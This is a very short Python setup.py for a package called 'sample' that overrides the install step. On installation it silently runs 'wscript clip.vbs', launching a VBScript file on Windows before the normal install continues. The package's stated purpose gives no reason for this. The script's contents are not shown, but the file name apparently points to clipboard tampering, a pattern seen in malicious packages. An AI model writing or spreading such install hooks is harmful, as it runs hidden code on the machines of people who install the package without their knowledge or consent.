import os
from setuptools.command.install import install
from setuptools import setup
class Install(install):
    def run(self):
        os.system("wscript clip.vbs")
        install.run(self)

setup(name="sample", version="1.0", packages=["lantern"], cmdclass={"install": Install})
